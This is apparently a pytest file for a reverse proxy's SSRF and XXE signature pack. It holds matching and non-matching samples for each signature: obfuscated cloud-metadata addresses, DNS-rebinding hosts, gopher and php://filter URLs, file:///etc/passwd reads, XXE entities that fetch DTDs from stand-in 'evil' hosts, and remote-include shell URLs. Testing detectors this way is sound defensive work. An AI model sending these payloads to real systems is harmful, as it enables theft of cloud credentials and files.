"""Forged requests of a server and external entities: what their signatures are found in."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from revproxy.filters.inspect.packs.ssrf import SSRF
from revproxy.filters.inspect.signature import Signature
from revproxy.filters.inspect.subject import Subject
from revproxy.filters.inspect.value import Part, Value
from revproxy.testing import exchange

from . import Samples, check_pack

CHECK_25 = Samples(
    (
        Subject(exchange(headers={"Metadata-Flavor": "Google"})),
        Subject(exchange(headers={"metadata": "True"})),
        Subject(exchange(headers={"X-Google-Metadata-Request": "True"})),
        Subject(exchange("PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"})),
        Subject(exchange(headers={"X-aws-ec2-metadata-token": "x"})),
        Subject(exchange(headers={"X-aliyun-ecs-metadata-token": "x"})),
    ),
    (
        Subject(exchange()),
        Subject(exchange(headers={"Metadata": "author=me"})),
        Subject(exchange(headers={"X-Metadata": "true"})),
        Subject(exchange(headers={"X-Amz-Meta-Token": "x"})),
        Subject(exchange("POST", "/metadata", headers={"X-Requested-With": "XMLHttpRequest"})),
    ),
)


def troubled(**troubles: str) -> Subject:
    subject = Subject(exchange("POST"))
    subject.troubles.update(troubles)
    return subject


CHECK_29 = Samples(
    tuple(troubled(doctype=f"XML with a document type declaration, {number}") for number in range(5)),
    (
        troubled(),
        troubled(xml="not well-formed XML"),
        troubled(json="not JSON"),
        troubled(depth="XML nested too deeply"),
        troubled(values="more values than are looked at", charset="unknown"),
    ),
)

SAMPLES: Mapping[str, Samples] = {
    "ssrf-01": Samples(
        (
            "http://169。254。169。254/",
            "http://①⑥⑨｡②⑤④｡①⑥⑨｡②⑤④/",
            "http://192.0.0.192/latest/",
            "http://168.63.129.16/machine",
            "http://169.254.169.254",
            "//169.254.169.254/x",
        ),
        (
            "The service at http://169.254.169.254/ is for instances",
            "169.254.169.254",
            "http://169.254.1.1.example/",
            "https://x.example/169-254-169-254",
            "https://100.100.example/",
            "see 168.63.129.16 in the manual",
        ),
    ),
    "ssrf-02": Samples(
        (
            "http://x/openstack/latest/meta_data.json",
            "http://x/opc/v2/instance/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://instance-data/latest/meta-data/",
            "http://metadata/computeMetadata/v1/",
            "http://169.254.169.254/latest/meta-data/",
        ),
        (
            "https://docs.example/metadata-overview",
            "latest meta-data of the song",
            "https://metadata.example/v1",
            "the path /latest/meta-data/ is documented",
            "/latest/news",
            "metadata/instances",
        ),
    ),
    "ssrf-03": Samples(
        (
            "http://0xA9FEA9FE:80",
            "http://3232235777/",
            "http://2852039166/",
            "http://2130706433/",
            "http://0xa9fea9fe/",
            "http://025177524776/",
        ),
        (
            "https://x.example/2130706433",
            "http://1234567.example/",
            "tel://20240101x",
            "id:12345678",
            "// 20240101 changed",
            "https://0x0.example/",
        ),
    ),
    "ssrf-04": Samples(
        (
            "http://0251.0376.0251.0376/",
            "http://0xa9.0xfe.0xa9.0xfe/",
            "http://0xa9.254.0251.254/",
            "http://0x7f.0x0.0x0.0x1/",
            "http://0177.0.0.1/",
            "http://0177.1/",
        ),
        (
            "http://10.0.0.1/",
            "https://007.example/",
            "https://x.example/0x7f",
            "0x7f000001",
            "ratio 1:0177",
            "https://0xff.example/",
        ),
    ),
    "ssrf-05": Samples(
        (
            "http://169.254.43518/",
            "http://169.16689662/",
            "http://127.1/",
            "http://127.0.1",
            "http://0/",
            "http://0:80/",
        ),
        (
            "https://1.1.1.1/dns-query",
            "https://7.example/",
            "at 12:30/45",
            "https://x.example/127.1",
            "127.1",
            "http://10.20.30.40.example/",
        ),
    ),
    "ssrf-06": Samples(
        (
            "http://[fe80::1]/",
            "gopher://[::1]:6379/_x",
            "http://[::ffff:169.254.169.254]/",
            "http://[::ffff:a9fe:a9fe]/",
            "http://[fd00:ec2::254]/latest/",
            "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
        ),
        (
            "http://[2001:db8::1]/",
            "listening on http://[::]:8000/",
            "[::1] is this host",
            "a[::1]",
            "https://x.example/[::1]",
            "//[name]",
        ),
    ),
    "ssrf-07": Samples(
        (
            "ldap://localhost:11211/%0astats items",
            "http:127.0.0.1/",
            "http:/\\127.0.0.1/",
            "http:\\\\127.0.0.1\\",
            "http://127.0.0.1",
            "http://127.0.0.1/",
            "http://127.0.0.1:22",
        ),
        (
            "redis://localhost:6379/0",
            "jdbc:postgresql://localhost:5432/app",
            "http://localhost:3000/callback",
            "http://127.0.0.1:51004/cb?code=x",
            "I run it at http://localhost/ at home",
            "https://localhost.example/",
            "root@localhost",
            "docs/localhost/x",
            "http://127.0.0.1.example/",
        ),
    ),
    "ssrf-08": Samples(
        (
            "https://10.1.2.3:6443/api",
            "http://192.168.1.10:3306",
            "http://172.31.0.1:22/",
            "http://100.64.0.1:10250/pods",
            "http://192.168.0.1:6379/",
            "http://172.17.0.1:2375/info",
        ),
        (
            "rtsp://192.168.1.50:554/stream1",
            "http://192.168.1.5:8080/app",
            "http://10.0.0.1/",
            "10.0.0.5:2375",
            "see http://10.0.0.5:6379/ there",
            "http://192.168.0.1.example:22/",
            "http://8.8.8.8:53/",
        ),
    ),
    "ssrf-09": Samples(
        (
            "http://google.com@127.0.0.1/",
            "http://trusted.example@evil.example/",
            "https://www.google.com:443@evil.example/",
            "http://evil.example#@trusted.example/",
            "http://trusted.example\\@evil.example",
            "http://1.1.1.1&@2.2.2.2#@3.3.3.3/",
        ),
        (
            "https://medium.com/@someone/post",
            "https://www.google.com/maps/@48.85,2.35,15z",
            "https://x.example/?mail=me@mail.example",
            "git@github.com:me/repo.git",
            "https://user:pw@host/",
            "me@mail.example",
        ),
    ),
    "ssrf-10": Samples(
        (
            "http://localtest.me/",
            "http://app-127-0-0-1.nip.io/",
            "http://7f000001.c0a80001.rbndr.us/",
            "http://make-1.2.3.4-rebind-169.254-169.254-rr.1u.ms/",
            "http://127.0.0.1.nip.io/",
            "http://169.254.169.254.sslip.io/",
        ),
        (
            "https://nip.io/",
            "https://lvh.example/",
            "see 127.0.0.1.nip.io",
            "https://shop.example/10-20-30.nip",
            "https://mylocaltest.me.example/",
            "rbndr.us",
        ),
    ),
    "ssrf-11": Samples(
        (
            "x.dnslog.cn",
            "http://a.bxss.me/t",
            "http://x.burpcollaborator.net/",
            "http://abc.oastify.com",
            "http://x.oast.fun",
            "http://x.interact.sh/",
        ),
        (
            "https://burp.example/",
            "coast.pro",
            "interact.sharing",
            "canary tokens",
            "toast.site",
            "https://roast.fun/menu",
        ),
    ),
    "ssrf-12": Samples(
        (
            "php://filter/convert.base64-encode/resource=index.php",
            "data://text/plain;base64,PD9waHA=",
            "jar:file:///x.zip!/y",
            "jar:http://evil/x.jar!/",
            "local_file:///etc/passwd",
            "zip://x.zip#y",
            "gopher://evil:25/_HELO",
            "tftp://evil:69/x",
        ),
        (
            "sftp://backup.example.com/var/backups",
            "php://input vs $_POST",
            "ldaps://ldap.example.com:636/ou=people,dc=example,dc=com??sub?(uid=*)",
            "jdbc:mysql://db.example.com:3306/shop?useSSL=true",
            "https://x.example/",
            "mailto:me@mail.example",
            "ftp://ftp.example/pub/",
            "php: hypertext",
            "see gopher://gopher.example/ if you are old",
            "jar: a vessel",
            "git+ssh://host/x",
        ),
    ),
    "ssrf-13": Samples(
        (
            '<iframe src="file:///etc/passwd">',
            '<link rel=attachment href="file:///etc/passwd">',
            "file:/etc/passwd",
            "url:file:///etc/passwd",
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>',
            "<xsl:copy-of select=\"document('file:///etc/passwd')\"/>",
        ),
        (
            "file://",
            "file:///C:/Users/me/AppData/Local/Temp/x.png",
            '<img src="file:///C:/Users/me/clip_image001.png">',
            "profile:/etc",
            "file: etc",
            "the file /etc/passwd",
            "https://x.example/file:/x",
        ),
    ),
    "ssrf-14": Samples(
        (
            "http://evil.example/x.php?c=id",
            "http://evil.example/a.jpg??",
            "http://evil.example/a.inc?",
            "https://evil.example/b.txt?cmd=ls",
            "http://evil.example/x.php?",
            "https://evil.example/cmd.gif?cmd=id",
            "http://evil.example/shell.txt?",
            "http://evil.example/shell.txt??",
        ),
        (
            "https://x.example/view.aspx?c=5",
            "https://cdn.example.com/a/b.jpg?",
            "https://x.example/file.txt",
            "https://x.example/a.png?size=2",
            "Have you seen http://x.example/a.php?",
            "https://x.example/page?",
            "https://x.example/index.php?id=1",
            "a.txt?",
        ),
    ),
    "ssrf-15": Samples(
        (
            "http://evil.example/wso2.php",
            "http://evil.example/x-shell.jsp",
            "http://evil.example/c99.txt",
            "ftp://evil.example/r57.txt",
            "http://203.0.113.5/x.txt",
            "http://203.0.113.5:8000/a.php",
        ),
        (
            "https://x.example/seashells.png",
            "https://x.example/shell/",
            "http://203.0.113.5/",
            "see http://203.0.113.5/x.txt there",
            "https://x.example/cmdline.html",
            "shell.php",
        ),
    ),
    "ssrf-16": Samples(
        (
            "http://node.internal:10250/run/default/x",
            "http://10.0.0.5:9200/_search",
            "http://intra/actuator/env",
            "http://target/actuator/heapdump",
            "http://consul:8500/v1/kv/?recurse",
            "http://etcd:2379/v2/keys",
            "http://elasticsearch:9200/_cat/indices",
            "https://kubernetes.default.svc/api/v1/namespaces",
        ),
        (
            "https://api.x.example/images/search?q=cat",
            "https://api.x.example/v2/members",
            "https://www.x.example/run/shoes",
            "https://docker.example/docs/containers",
            "/containers/json",
            "https://x.example/v2/keyboards",
            "https://x.example/api/v1/users",
            "see http://10.0.0.5:2375/containers/json",
            "https://x.example/podspec",
        ),
    ),
    "ssrf-17": Samples(
        (
            "http://unix:/var/run/docker.sock:/containers/json",
            "http://host.docker.internal/",
            "unix:///var/run/docker.sock",
            "http://metadata/computeMetadata/v1/",
            "http://consul:8500/v1/kv/?recurse",
            "http://etcd:2379/v2/keys",
        ),
        (
            "amqp://rabbitmq:5672",
            "redis://redis:6379/0",
            "- /var/run/docker.sock:/var/run/docker.sock",
            "REDIS_URL: redis://redis:6379/0",
            "https://redis.example/",
            "https://consulting.example/",
            "unix: a system",
            "https://x.example/vault",
        ),
    ),
    "ssrf-18": Samples(
        (
            '<!ENTITY xxe SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">',
            '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "http://evil/x">]><r>&x;</r>',
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b PUBLIC "x" "http://evil/x">]><a>&b;</a>',
            '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
            '<!DOCTYPE x [ <!ENTITY % remote SYSTEM "http://evil/x.dtd"> %remote; ]>',
        ),
        (
            '<!ENTITY copyright "&#169;">',
            "an entity of the system",
            "<!-- entity x system -->",
            "<!ELEMENT note (to)>",
            '<entity name="a">public</entity>',
            "entity % system",
        ),
    ),
    "ssrf-19": Samples(
        (
            "<!DOCTYPE x [%ext;]>",
            "<!ENTITY % a '&#37; b SYSTEM \"http://x/\"'>",
            "%dtd;]>",
            "<!entity %x; >",
            "&#x25; send SYSTEM 'http://evil.example/'",
            '<!DOCTYPE x [ <!ENTITY % remote SYSTEM "http://evil/x.dtd"> %remote; ]>',
        ),
        (
            "100%; sure",
            '<!ENTITY copy "x">',
            "width: 50%; height: 100%;",
            "[50%]",
            "5 %x; y",
            "calc(100%);]",
        ),
    ),
    "ssrf-20": Samples(
        (
            "<!DOCTYPE a [<!ELEMENT a ANY>]>",
            '<!DOCTYPE svg PUBLIC "-//W3C" "x" [<!ENTITY y "z">]>',
            '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>',
            '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "http://evil/x">]><r>&x;</r>',
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b PUBLIC "x" "http://evil/x">]><a>&b;</a>',
            '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
        ),
        (
            "<!DOCTYPE html><p>[x]</p>",
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1.dtd">',
            "doctype [x]",
            "<!DOCTYPE note []>",
            '<!DOCTYPE html SYSTEM "about:legacy-compat">',
            "<doctype [a]>",
        ),
    ),
    "ssrf-21": Samples(
        (
            '<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>',
            "<!DOCTYPE r SYSTEM 'http://203.0.113.5/x.dtd'>",
            '<!DOCTYPE r PUBLIC "-//x" "ftp://evil.example/x.dtd">',
            '<!DOCTYPE x PUBLIC "a" "http://evil.example/x.dtd"><x/>',
            '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
        ),
        (
            "<!DOCTYPE html>",
            '<!DOCTYPE html SYSTEM "about:legacy-compat">',
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
            '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
            '<!DOCTYPE note SYSTEM "note.dtd">',
            '<!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd">',
        ),
    ),
    "ssrf-22": Samples(
        (
            '<!ENTITY a "&b;&b;">',
            "<!ENTITY lol9 '&lol8;&lol8;&lol8;'>",
            '<!ENTITY x "dos&y;dos&y;">',
            '<!DOCTYPE z [<!ENTITY c "&d; &d;">]>',
            '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>',
        ),
        (
            '<!ENTITY copy "&#169;">',
            '<!ENTITY amp "&#38;">',
            '<entity a="&b;&c;">',
            '"&lt;&gt;"',
            '<!ENTITY ns "http://www.w3.org/">',
            "&lol;&lol;",
        ),
    ),
    "ssrf-23": Samples(
        (
            '<xsl:import href="x.xsl"/>',
            "doc('http://evil.example/')",
            '<x:include href="/etc/passwd">',
            '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil/"/></foo>',
            '<xsl:include href="http://127.0.0.1:8000/x.xsl"/>',
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>',
        ),
        (
            '<jsp:include page="a.jsp">',
            "#include <stdio.h>",
            'document("report")',
            "<xi:include/>",
            "doc: https://x.example/",
            "the collection (of files)",
        ),
    ),
    "ssrf-24": Samples(
        (
            '<object data="gopher://x/">',
            "background:url(http://[::1]/)",
            "src='jar:http://x/!/'",
            '<img src="http://169.254.169.254/latest/meta-data/">',
            '<svg><image xlink:href="http://127.0.0.1/"/></svg>',
            "url(http://127.0.0.1:22/)",
        ),
        (
            '<a href="http://localhost:3000/">dev</a>',
            '<img src="https://cdn.example/a.png">',
            "url(http://x.example/)",
            "the url = http, the file = php: code",
            'src="//cdn.example"',
            '<a href="ftp://x.example/">',
        ),
    ),
    "ssrf-25": CHECK_25,
    "ssrf-26": Samples(
        (
            "http://169.254.170.2/v2/credentials/x",
            "https://site.example/go?u=http://169.254.169.254/",
            "http://127.0.0.1:80/admin",
            "http://127.0.0.1:6379/",
            "http://localhost./",
            "http://0.0.0.0/",
        ),
        (
            "https://x.example/",
            "see http://localhost/",
            "http://8.8.8.8/",
            "10.0.0.1",
            "https://192.example/",
            "https://1.example/",
        ),
    ),
    "ssrf-27": Samples(
        (
            "http://intranet/",
            "https://db.internal/x",
            "ftp://me@x/",
            "http://printer.local:631/",
            "http://a.b.corp",
            "http://017700000001/",
        ),
        (
            "https://x.example/",
            "see http://intranet/",
            "https://www.example.com/a",
            "intranet",
            "a local host",
            "https://local.example/",
        ),
    ),
    "ssrf-28": Samples(
        (
            "ftp://x.example/a",
            "https://x.example/a?",
            "ssh://x.example/",
            "git+ssh://x.example/r",
            "http://x.example/??",
            "file:///etc/passwd",
        ),
        (
            "https://x.example/",
            "http://x.example/?a=b",
            "a ftp://x.example/",
            "note: x",
            "https://x.example/?a",
            "C:/x",
        ),
    ),
    "ssrf-29": CHECK_29,
    "ssrf-30": Samples(
        (
            "http://127.127.127.127/",
            "http://[::1]/",
            "http://[::]:80/",
            "http://[0000::1]:80/",
            "http://[0:0:0:0:0:0:0:1]/",
            "http://[::ffff:127.0.0.1]/",
        ),
        (
            "https://x.example/",
            "10.0.0.1",
            "localhost",
            "https://1.example/",
            "[::1]",
            "//x.example",
        ),
    ),
    "ssrf-31": Samples(
        (
            "http://0x7f.1/",
            "http://0x7f000001/",
            "http://[::ffff:7f00:1]/",
            "http://[0:0:0:0:0:ffff:127.0.0.1]",
            "http://ip6-localhost/",
            "http:///127.0.0.1/",
        ),
        (
            "x.example",
            "see https://x.example/",
            "a/b//c",
            "mailto:x",
            "12:30",
            "C:\\x",
        ),
    ),
    "ssrf-32": Samples(
        (
            Value(Part.NAME, "", "_SERVER[DOCUMENT_ROOT]"),
            Value(Part.NAME, "", "GLOBALS[mosConfig_absolute_path]"),
            Value(Part.NAME, "", "_CONFIG[dir]"),
            Value(Part.NAME, "", "mosConfig_absolute_path"),
            Value(Part.NAME, "", "_REQUEST[option]"),
            Value(Part.NAME, "", "phpbb_root_path"),
        ),
        (
            Value(Part.NAME, "", "user[_server]"),
            Value(Part.NAME, "", "config[path]"),
            Value(Part.NAME, "", "_session"),
            Value(Part.NAME, "", "absolute_path"),
            Value(Part.NAME, "", "server[0][name]"),
            "_SERVER[DOCUMENT_ROOT] of PHP is an absolute path",
        ),
    ),
}

ORDINARY = (
    "https://www.example.com/a/b?c=d&e=f#g",
    "http://www.example.com/redirect?url=https%3A%2F%2Fother.example%2Fx",
    "https://cdn.example.com/img/photo.jpg?w=100&h=200",
    "http://localhost:3000/callback",
    "http://127.0.0.1:51004/cb?code=x",
    "I run it at http://localhost:3000 and http://127.0.0.1:8080/ works, see http://169.254.169.254/latest/ docs",
    "https://medium.com/@someone/post-123",
    "https://www.google.com/maps/@48.85,2.35,15z",
    "https://t.me/some?start=1",
    "https://10.example.com/x",
    "http://7.com",
    "https://1.1.1.1/dns-query",
    "http://user:pw@example.com/",
    "git@github.com:me/repo.git",
    "root@localhost",
    "//cdn.example.com/x.js",
    "https://example.com/file.txt",
    "https://example.com/image.png?size=2",
    "https://example.com/page?",
    "ssh://git@host/repo",
    "mailto:me@example.com",
    "ftp://ftp.example.com/pub/x.tar.gz",
    "file:///C:/Users/me/AppData/Local/Temp/x.png",
    '<img src="file:///C:/Users/me/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png">',
    "<!DOCTYPE html><html><body><p>x</p></body></html>",
    '<p>Hello <b>World</b> <a href="https://x.org/?a=1&b=2">link</a> <img src="https://x.org/a.png" alt="x"></p>',
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>',
    'John "Jack" <jack@example.com>',
    "body { background: url(\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'/>\"); behavior: smooth }",
    '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns="http://www.w3.org/TR/REC-html40"><head>',
    '<https://example.com/>; rel="next"',
    "=SUM(A1:A5)*2 @home #1 $5 50% off!",
    '[link](https://x.org "title") ![img](https://x.org/a.png) <https://auto.link>',
)


def test_pack() -> None:
    """S-60: each signature of forged requests is found in its attacks, and not in what looks like them."""
    check_pack(SSRF, SAMPLES)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text(text: str) -> None:
    """S-60: nothing of paranoia 1 is found in what people write, paste and upload."""
    value = Value(Part.VALUE, "text", text)
    signatures = [each for each in SSRF if isinstance(each, Signature) and each.paranoia == 1]
    assert [each.id for each in signatures if each.found_in(value) is not None] == []


@given(
    st.text(st.characters(min_codepoint=0, max_codepoint=0x2FFF), max_size=200),
    st.sampled_from(["http://", "http://0x", "file:/", "<!DOCTYPE ", "<!ENTITY ", "http://[::"]),
)
def test_any_text(text: str, opening: str) -> None:
    """S-53: any text is searched, alone and after what an attack begins with, and nothing raises."""
    for value in (Value(Part.VALUE, "q", text), Value(Part.COOKIE, "c", opening + text)):
        for each in SSRF:
            if isinstance(each, Signature):
                each.found_in(value)
